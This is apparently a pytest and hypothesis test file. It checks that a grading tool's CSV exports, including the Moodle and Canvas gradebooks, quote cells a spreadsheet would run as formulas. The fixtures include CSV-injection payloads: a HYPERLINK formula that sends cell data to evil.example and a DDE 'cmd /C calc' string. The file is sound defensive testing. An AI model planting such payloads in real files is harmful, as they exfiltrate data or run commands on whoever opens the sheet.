"""Every CSV the grader writes opens in a spreadsheet without running anything (OWASP "CSV Injection"): a text cell
a spreadsheet would take as a formula is written with a quote in front; numbers and the platforms' ids are written as
they are; the grader reads its own files back without the quote. Checked on the cell rule and on each real writer
(grades.csv, lms.csv, manual.csv and extensions.csv, the Moodle worksheet both ways, the Canvas gradebook), each
output parsed with the csv module."""

from __future__ import annotations

import csv
import dataclasses
import io
import itertools
import re
import unicodedata
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from grader.adjust.manual import COLUMNS as MANUAL_COLUMNS
from grader.adjust.manual import ManualSheet
from grader.adjust.sheet import read_sheet, write_sheet
from grader.check.spec import WrittenQuestion
from grader.csv_cells import BOM, csv_rows, csv_text, from_cell, to_cell
from grader.discover.finder import Submission
from grader.export.canvas import fill_gradebook
from grader.export.moodle import write_moodle_exports
from grader.points import decimal, shown
from grader.record import write_grades_csv, write_lms_csv
from grader.results import CheckResult, QuestionResult, SubmissionResult, WrittenAnswer

# What a spreadsheet takes as the start of a formula: = + - @ and the forms of them that some locales' Excel
# evaluates (full-width; small, superscript and subscript forms, which normalise to them).
TRIGGERS = "=+-@＝＋－＠﹦﹢﹣﹫⁼₌⁺₊﬩"
NUMBER = re.compile(r"[+-]?([0-9]+([.,][0-9]*)?|[.,][0-9]+)([eE][+-]?[0-9]+)?")


def skipped(char: str) -> bool:
    """Passed over by a spreadsheet before it looks for a formula."""
    return char.isspace() or unicodedata.category(char) in ("Cc", "Cf")


def runs(cell: str) -> bool:
    """Whether a spreadsheet opening ``cell`` could run it: the tests' own statement of the rule."""
    if NUMBER.fullmatch(cell):
        return False
    if cell[:1] in ("\t", "\r"):
        return True
    rest = "".join(itertools.dropwhile(skipped, cell))
    return rest[:1] in set(TRIGGERS) and any(not skipped(char) for char in rest[1:])


def passed_through(cell: str) -> str:
    """A cell of a platform's file as the grader writes it back when it does not fill it."""
    cell = cell.replace("\0", "\ufffd")
    return "'" + cell if runs(cell) else cell


def no_formula(table: list[list[str]]) -> None:
    for r, row in enumerate(table):
        for c, cell in enumerate(row):
            assert not runs(cell), (r, c, cell)


# ----- what hypothesis draws ------------------------------------------------------------------------------------------
SPECIAL = [*TRIGGERS, "'", "\t", "\r", "\n", " ", "\u00a0", "\u3000", "\u200b", BOM, "\0", '"', ",", ";",
           "0", "7", ".", "e"]
any_char = st.one_of(st.sampled_from(SPECIAL), st.characters(codec="utf-8"))
# Text that often starts as a formula would: blanks, quotes, a trigger, then anything.
texts = st.builds(lambda lead, trigger, rest: lead + trigger + rest,
                  st.sampled_from(["", "", " ", "\n", "\t", "\r", " \r\n ", "\u200b", BOM, "\0", "'", "''", "' "]),
                  st.sampled_from(["", "", *TRIGGERS]), st.text(any_char, max_size=12))
plain = texts.map(lambda text: text.replace("\0", ""))  # what reads back exactly (a NUL is written as U+FFFD)
numbers = st.one_of(st.integers().map(str), st.integers(min_value=0).map(lambda n: f"+{n}"),
                    st.floats(allow_nan=False, allow_infinity=False).flatmap(
                        lambda x: st.sampled_from([repr(x), shown(x), decimal(x), f"{x:.2f}"])),
                    st.from_regex(r"[+-]?0[0-9]{1,8}([.,][0-9]{1,3})?", fullmatch=True))
ids = st.one_of(st.integers(min_value=0, max_value=10**9).map(lambda n: f"Participant {n}"),
                st.from_regex(r"0[0-9]{2,8}", fullmatch=True), st.from_regex(r"S?[0-9]{3,9}", fullmatch=True),
                st.from_regex(r"[a-z][a-z0-9._]{0,12}@[a-z]{1,8}\.(edu|org|pt)", fullmatch=True),
                st.from_regex(r"[0-9a-f]{8}", fullmatch=True))


# ----- the cell rule -------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(("value", "written"), [
    ("=SUM(A1)", "'=SUM(A1)"), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ('=HYPERLINK("https://evil.example/?"&A2,"details")', '\'=HYPERLINK("https://evil.example/?"&A2,"details")'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"), ("\tplain", "'\tplain"), ("\rplain", "'\rplain"),
    ("  =1+1", "'  =1+1"), ("\n\n-1+1", "'\n\n-1+1"), ("\u200b=1", "'\u200b=1"), (BOM + "@x", "'" + BOM + "@x"),
    ("＝1+1", "'＝1+1"), ("＋1", "'＋1"), ("－A1", "'－A1"), ("＠SUM(A1)", "'＠SUM(A1)"), ("﹦1", "'﹦1"),
    ("'=x", "''=x"), ("''-x", "'''-x"), ("a\0b", "a\ufffdb"),
    # never touched: numbers, a lone sign, the platforms' ids, text that does not start as a formula
    ("-3.5", "-3.5"), ("+2", "+2"), ("1e-3", "1e-3"), ("-1e-3", "-1e-3"), ("87.5", "87.5"), ("-2,5", "-2,5"),
    ("00123", "00123"), ("-", "-"), ("=", "="), (" - ", " - "), ("Participant 1234", "Participant 1234"),
    ("ana.diaz@example.edu", "ana.diaz@example.edu"), ("S1001", "S1001"), ("a=b", "a=b"), ("", ""),
    ("'", "'"), ("'-3", "'-3"), ("sha256:0a1b", "sha256:0a1b"), ("Good - but see q2", "Good - but see q2")])
def test_a_cell_a_spreadsheet_would_run_gets_a_quote_and_no_other_does(value: str, written: str) -> None:
    assert to_cell(value) == written
    assert from_cell(written) == value.replace("\0", "\ufffd")


@given(texts)
@example("=good")
def test_no_written_cell_runs_and_reading_undoes_writing(value: str) -> None:
    written = to_cell(value)
    assert not runs(written)
    assert from_cell(written) == value.replace("\0", "\ufffd")
    assert written in (value.replace("\0", "\ufffd"), "'" + value.replace("\0", "\ufffd"))


@given(st.one_of(numbers, ids))
def test_numbers_and_ids_are_written_as_they_are(value: str) -> None:
    assert to_cell(value) == value
    assert from_cell(value) == value


@given(plain)
def test_a_cell_read_and_written_again_is_byte_for_byte_unless_it_would_run(cell: str) -> None:
    # A platform's file passes through the grader: every cell it does not fill goes back as it came.
    assert to_cell(from_cell(cell)) == ("'" + cell if runs(cell) else cell)


@given(plain)
def test_what_a_spreadsheet_saves_reads_back_as_the_grader_meant_it(value: str) -> None:
    # The spreadsheet either shows the quote and saves it, or hides it and saves the bare text. (Text that itself
    # starts with quotes before a formula is told apart only while the quotes are saved.)
    written = to_cell(value)
    assert from_cell(written) == value
    if written != value and not value.startswith("'"):
        assert from_cell(value) == value


# ----- the writer -----------------------------------------------------------------------------------------------------
tables = st.lists(st.lists(texts, max_size=5), max_size=5)


@given(tables, st.sampled_from([",", ";", "\t"]), st.sampled_from(["\n", "\r\n"]), st.booleans())
@example([["a\rb", "=x"], ["\r=1+1"]], ",", "\n", False)  # a bare \r in a \n file: quoted, or a row splits there
@example([["\ufeff"]], ",", "\n", False)  # quoted, or read as the file's byte-order mark
def test_csv_text_parses_back_to_the_cells_written(rows: list[list[str]], delimiter: str, newline: str,
                                                   bom: bool) -> None:
    written = csv_text(rows, delimiter=delimiter, newline=newline, bom=bom)
    assert written.text.startswith(BOM) == bom
    text = written.text.removeprefix(BOM)
    parsed = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    assert parsed == [[to_cell(v) for v in row] for row in rows]
    no_formula(parsed)
    assert csv_rows(text, delimiter=delimiter) == [[v.replace("\0", "\ufffd") for v in row] for row in rows]
    assert [(a.row, a.column, a.value) for a in written.altered] == [
        (r, c, v) for r, row in enumerate(rows) for c, v in enumerate(row) if to_cell(v) != v]
    assert text.count(newline) >= len(rows) and (not rows or text.endswith(newline))


safe = st.text(st.characters(codec="utf-8", exclude_characters="\r\0"), max_size=10).filter(lambda v: not runs(v))


@given(st.lists(st.lists(safe, max_size=4), max_size=4), st.sampled_from([",", ";"]),
       st.sampled_from(["\n", "\r\n"]))
def test_cells_that_need_nothing_are_written_as_the_csv_module_writes_them(rows: list[list[str]], delimiter: str,
                                                                          newline: str) -> None:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator=newline).writerows(rows)
    assert csv_text(rows, delimiter=delimiter, newline=newline).text == buffer.getvalue()


# ----- the grader's files ---------------------------------------------------------------------------------------------
def result(student: str, score: float = 62.5, *, reason: str = "", source: str = "x.py",
           answers: tuple[WrittenAnswer, ...] = ()) -> SubmissionResult:
    checks = (CheckResult("q1.a", "q1", "a", "public", "passed", 25.0, 25.0, "", "", 0),
              CheckResult("q2.a", "q2", "a", "public", "failed", score - 25.0, 75.0, "", "", 0))
    return SubmissionResult(student=student, assignment="attention_scoring", source=source, kind="python", sha256="",
                            status="invalid" if reason else "graded", reason=reason,
                            questions=(QuestionResult("q1", "Masking", checks[:1]),
                                       QuestionResult("q2", "Additive", checks[1:])),
                            units=(), answers=answers, notes=(), submitted_at="", graded_at="", duration_s=0.0)


def submission(student: str, name: str, origin: tuple[tuple[str, str], ...] = ()) -> Submission:
    return Submission(student, Path(f"{student}.py"), "python", datetime(2024, 3, 4, tzinfo=UTC), name=name,
                      origin=origin)


def parse(path: Path, delimiter: str = ",") -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle, delimiter=delimiter))


people = st.lists(st.tuples(texts, texts, texts, texts), min_size=1, max_size=4,
                  unique_by=lambda p: p[0].replace("\0", "\ufffd"))


@given(people)
def test_grades_csv_runs_nothing_and_keeps_numbers_and_text(tmp_path: Path,
                                                            people: list[tuple[str, str, str, str]]) -> None:
    results = [result(student, 25.0 + 10 * i, reason=reason, source=source)
               for i, (student, _name, reason, source) in enumerate(people)]
    write_grades_csv(tmp_path / "grades.csv", results,
                     {student: submission(student, name) for student, name, _r, _s in people})
    table = parse(tmp_path / "grades.csv")
    no_formula(table)
    named = any(name for _s, name, _r, _o in people)
    assert table[0] == ["student", *(["name"] if named else []), "score", "max_score", "status", "q1", "q2", "source",
                        "reason", "duration_s"]
    rows = {from_cell(row[0]): dict(zip(table[0], row, strict=True)) for row in table[1:]}
    for (student, name, reason, source), graded in zip(people, results, strict=True):
        row = rows[student.replace("\0", "\ufffd")]
        assert (row["score"], row["max_score"], row["q2"]) == (  # numbers as they are
            shown(graded.score), shown(graded.max_score), shown(graded.questions[1].score))
        assert [from_cell(row[c]) for c in ("reason", "source")] == [
            v.replace("\0", "\ufffd") for v in (reason, source)]
        if named:
            assert from_cell(row["name"]) == name.replace("\0", "\ufffd")


@given(st.lists(st.one_of(ids, texts), min_size=1, max_size=5, unique_by=lambda v: v.replace("\0", "\ufffd")))
def test_lms_csv_keeps_ids_and_scores_and_quotes_only_formulas(tmp_path: Path, students: list[str]) -> None:
    results = [result(student, 25.0 + 7.25 * i) for i, student in enumerate(students)]
    placed = write_lms_csv(tmp_path / "lms.csv", results)
    table = parse(tmp_path / "lms.csv")
    no_formula(table)
    assert table[0] == ["student_id", "score", "out_of"]
    written = {from_cell(row[0]): row for row in table[1:]}
    for graded in results:
        student = graded.student.replace("\0", "\ufffd")
        assert written[student][1:] == [decimal(graded.score), decimal(graded.max_score)]
        if to_cell(graded.student) == graded.student:
            assert written[student][0] == graded.student  # an id the LMS matches, exactly
    # the ids a spreadsheet would have run are written quoted, and the caller is told which: not placed
    quoted = {s for s in students if to_cell(s) != s}
    assert set(placed.placed) == {s for s in students if s not in quoted}
    assert len(placed.warnings) == len(quoted)


@given(st.lists(st.lists(texts, min_size=len(MANUAL_COLUMNS), max_size=len(MANUAL_COLUMNS)), max_size=4))
def test_manual_and_extensions_sheets_read_back_as_written(tmp_path: Path, rows: list[list[str]]) -> None:
    path = tmp_path / "manual.csv"
    rows = [[f"s{i}" + row[0], *row[1:]] for i, row in enumerate(rows)]  # a blank row is not read back
    write_sheet(path, MANUAL_COLUMNS, rows)
    no_formula(parse(path))
    sheet = read_sheet(path, required=("student", "question", "points"))
    assert sheet.columns == MANUAL_COLUMNS
    assert [[row.cells[c] for c in MANUAL_COLUMNS] for row in sheet.rows] == [
        [v.replace("\0", "\ufffd") for v in row] for row in rows]
    first = path.read_bytes()
    write_sheet(path, sheet.columns, [[row.cells[c] for c in sheet.columns] for row in sheet.rows])
    assert path.read_bytes() == first  # no quote grows at each run


WRITTEN = (WrittenQuestion("why", "Why?", points=3),)


def manual_run(out: Path, answers: dict[str, str]) -> list[SubmissionResult]:
    """What a class run does with manual.csv: read it, mark every answer, write it again."""
    sheet = ManualSheet.load(out, WRITTEN)
    results = [dataclasses.replace(result(s, answers=(WrittenAnswer("why", "Why?", a),)),
                                   manual=(sheet.mark(s, WRITTEN[0], a),)) for s, a in answers.items()]
    sheet.rewrite(results)
    return results


def set_comment(out: Path, student: str, comment: str) -> None:
    """The instructor types a comment in a spreadsheet and saves the file as CSV."""
    table = parse(out / "manual.csv")
    row = next(row for row in table[1:] if from_cell(row[0]) == student)
    row[table[0].index("comment")] = comment
    with (out / "manual.csv").open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle).writerows(table)


@given(plain, plain, st.booleans())
@example("=1+1", "=good", True)
@example("=1+1", "=good", False)
def test_an_instructors_comment_survives_every_run_as_typed(tmp_path: Path, answer: str, comment: str,
                                                            quote_saved: bool) -> None:
    out = tmp_path
    (out / "manual.csv").unlink(missing_ok=True)
    manual_run(out, {"ana": answer})
    # The spreadsheet shows the cell as written and saves it with its quote, or without it when it hid it.
    set_comment(out, "ana", to_cell(comment) if quote_saved or comment.startswith("'") else comment)
    graded = manual_run(out, {"ana": answer})
    assert graded[0].manual[0].comment == comment.strip()
    first = (out / "manual.csv").read_bytes()
    no_formula(parse(out / "manual.csv"))
    manual_run(out, {"ana": answer})
    assert (out / "manual.csv").read_bytes() == first


MOODLE_HEADER = ["Identifier", "Full name", "Email address", "Status", "Grade", "Maximum Grade",
                 "Grade can be changed", "Last modified (submission)", "Last modified (grade)", "Feedback comments"]


def moodle_submission(ident: str, name: str) -> Submission:
    return submission(ident, name, (("moodle_participant", ident), ("moodle_folder", f"x_{ident}_assignsubmission")))


@given(st.lists(texts, min_size=1, max_size=4))
def test_moodle_worksheet_without_a_download_runs_nothing_and_keeps_identifiers(tmp_path: Path,
                                                                                names: list[str]) -> None:
    idents = [str(101 + i) for i in range(len(names))]
    sheet, _ = (p.path for p in write_moodle_exports(
        tmp_path, [moodle_submission(i, n) for i, n in zip(idents, names, strict=True)],
        [result(i, 50.0) for i in idents]))
    table = parse(sheet)
    no_formula(table)
    assert table[0] == ["Identifier", "Full name", "Grade", "Maximum Grade", "Last modified (grade)",
                        "Feedback comments"]
    assert [row[0] for row in table[1:]] == [f"Participant {i}" for i in idents]  # what Moodle matches, exactly
    assert [from_cell(row[1]) for row in table[1:]] == [n.replace("\0", "\ufffd") for n in names]
    assert {(row[2], row[3], row[4]) for row in table[1:]} == {("50", "100", "-")}


@given(st.lists(st.tuples(texts, texts, texts, texts), min_size=2, max_size=4), st.booleans())
def test_moodle_worksheet_filled_in_keeps_every_other_cell(tmp_path: Path, people: list[tuple[str, ...]],
                                                           bom: bool) -> None:
    rows = [MOODLE_HEADER] + [
        [f"Participant {101 + i}", name, email, status, "", "100.00", "Yes", submitted, "-", ""]
        for i, (name, email, status, submitted) in enumerate(people)]
    worksheet = tmp_path / "worksheet.csv"
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    worksheet.write_text((BOM if bom else "") + buffer.getvalue(), encoding="utf-8", newline="")
    graded = "101"  # the others have no submission: their rows go back as Moodle wrote them
    sheet, _ = (p.path for p in write_moodle_exports(tmp_path / "out", [moodle_submission(graded, "x")],
                                                      [result(graded, 50.0)], worksheet=worksheet))
    assert sheet.read_text(encoding="utf-8").startswith(BOM) == bom
    table = parse(sheet)
    no_formula(table)
    assert table[0] == MOODLE_HEADER
    for before, after in zip(rows[1:], table[1:], strict=True):
        for column, old, new in zip(MOODLE_HEADER, before, after, strict=True):
            if before[0] == f"Participant {graded}" and column in ("Grade", "Feedback comments"):
                continue
            assert new == passed_through(old), column
    assert table[1][4] == "50"


CANVAS_HEADER = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Attention Scoring (3001)", "Notes",
                 "Current Score"]


@given(st.lists(st.tuples(texts, st.one_of(ids, texts), st.one_of(ids, texts), texts, texts), min_size=2, max_size=4),
       st.sampled_from([",", ";"]), st.sampled_from(["\n", "\r\n"]), st.booleans())
def test_canvas_gradebook_filled_in_keeps_every_other_cell(tmp_path: Path, people: list[tuple[str, ...]],
                                                           delimiter: str, newline: str, bom: bool) -> None:
    rows = [CANVAS_HEADER, ["    Points Possible", "", "", "", "", "100.00", "", "(read only)"]] + [
        [name, str(1001 + i), sis, login, section, "", notes, "-"]
        for i, (name, sis, login, section, notes) in enumerate(people)]
    export = tmp_path / "gradebook.csv"
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator=newline, quoting=csv.QUOTE_ALL).writerows(rows)
    export.write_text((BOM if bom else "") + buffer.getvalue(), encoding="utf-8", newline="")
    filled = fill_gradebook(export, {"1001": 87.5, "4242": 1.0}, names=["attention_scoring"])
    text, column, missing = filled.text, filled.column, filled.missing
    assert (column, missing) == ("Attention Scoring (3001)", ["4242"])
    assert text.startswith(BOM) == bom
    table = list(csv.reader(io.StringIO(text.removeprefix(BOM), newline=""), delimiter=delimiter))
    no_formula(table)
    assert table[2][5] == "87.5"
    for r, (before, after) in enumerate(zip(rows, table, strict=True)):
        for c, (old, new) in enumerate(zip(before, after, strict=True)):
            if (r, c) != (2, 5):
                assert new == passed_through(old), (r, CANVAS_HEADER[c])
    assert [row[1] for row in table[2:]] == [str(1001 + i) for i in range(len(people))]


# ----- one file each: what a student or an instructor could put there -------------------------------------------------
FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"details")'


def test_manual_csv_neutralises_an_answer_and_keeps_an_instructors_comment(tmp_path: Path) -> None:
    manual_run(tmp_path, {"ana": FORMULA, "-ben": "+1+1"})
    table = parse(tmp_path / "manual.csv")
    rows = {row[0]: dict(zip(table[0], row, strict=True)) for row in table[1:]}
    assert set(rows) == {"ana", "'-ben"}
    assert rows["ana"]["answer"] == "'" + FORMULA and rows["'-ben"]["answer"] == "'+1+1"
    set_comment(tmp_path, "ana", "'=good")  # the comment "=good", as the spreadsheet saves the cell it showed
    graded = {r.student: r for r in manual_run(tmp_path, {"ana": FORMULA, "-ben": "+1+1"})}
    assert graded["ana"].manual[0].comment == "=good"
    table = parse(tmp_path / "manual.csv")
    assert next(row for row in table if row[0] == "ana")[table[0].index("comment")] == "'=good"


def test_grades_csv_neutralises_a_name_a_reason_and_a_file_name(tmp_path: Path) -> None:
    bad = result("-ben", 0.0, reason="@SUM(1+1)*cmd|' /C calc'!A0", source="=cmd.py")
    write_grades_csv(tmp_path / "grades.csv", [result("ana", 62.5), bad],
                     {"ana": submission("ana", FORMULA), "-ben": submission("-ben", "Ben")})
    header, *rows = parse(tmp_path / "grades.csv")
    ben, ana = (dict(zip(header, row, strict=True)) for row in rows)  # sorted by id: "-ben" first
    assert ana["name"] == "'" + FORMULA and ana["score"] == "62.5"
    assert (ben["student"], ben["reason"], ben["source"]) == ("'-ben", "'@SUM(1+1)*cmd|' /C calc'!A0", "'=cmd.py")
    assert ben["score"] == "0" and ben["q2"] == "-25"  # a negative number stays a number


def test_lms_csv_neutralises_a_student_id_and_says_which(tmp_path: Path) -> None:
    placed = write_lms_csv(tmp_path / "lms.csv", [result("=1+1", 50.0), result("00123", 62.5),
                                                  result("ana@example.edu", 100.0)])
    assert parse(tmp_path / "lms.csv") == [["student_id", "score", "out_of"], ["00123", "62.5", "100"],
                                           ["'=1+1", "50", "100"], ["ana@example.edu", "100", "100"]]
    assert placed.placed == ("00123", "ana@example.edu") and len(placed.warnings) == 1
    assert "'=1+1'" in placed.warnings[0]


def test_moodle_worksheet_neutralises_a_name_both_ways(tmp_path: Path) -> None:
    sheet, _ = (p.path for p in write_moodle_exports(tmp_path / "a", [moodle_submission("101", FORMULA)],
                                                      [result("101", 62.5)]))
    assert parse(sheet)[1][:5] == ["Participant 101", "'" + FORMULA, "62.5", "100", "-"]
    worksheet = tmp_path / "worksheet.csv"
    worksheet.write_text(",".join(MOODLE_HEADER) + "\n"
                         f'Participant 101,"{FORMULA.replace(chr(34), chr(34) * 2)}",-x@example.edu,Submitted,,'
                         "100.00,Yes,-,-,\n", encoding="utf-8")
    sheet, _ = (p.path for p in write_moodle_exports(tmp_path / "b", [moodle_submission("101", "x")],
                                                      [result("101", 62.5)], worksheet=worksheet))
    row = parse(sheet)[1]
    assert row[:5] == ["Participant 101", "'" + FORMULA, "'-x@example.edu", "Submitted", "62.5"]
    assert row[7:9] == ["-", "-"]  # Moodle's "not yet", as Moodle wrote it


def test_canvas_gradebook_neutralises_a_name_and_keeps_the_ids(tmp_path: Path) -> None:
    export = tmp_path / "gradebook.csv"
    export.write_text(",".join(CANVAS_HEADER) + "\n    Points Possible,,,,,100.00,,(read only)\n"
                      f'"{FORMULA.replace(chr(34), chr(34) * 2)}",1001,00123,ana@example.edu,A,,@note,90\n',
                      encoding="utf-8")
    text = fill_gradebook(export, {"1001": 62.5}, names=["Attention Scoring"]).text
    assert list(csv.reader(io.StringIO(text)))[2] == ["'" + FORMULA, "1001", "00123", "ana@example.edu", "A", "62.5",
                                                      "'@note", "90"]
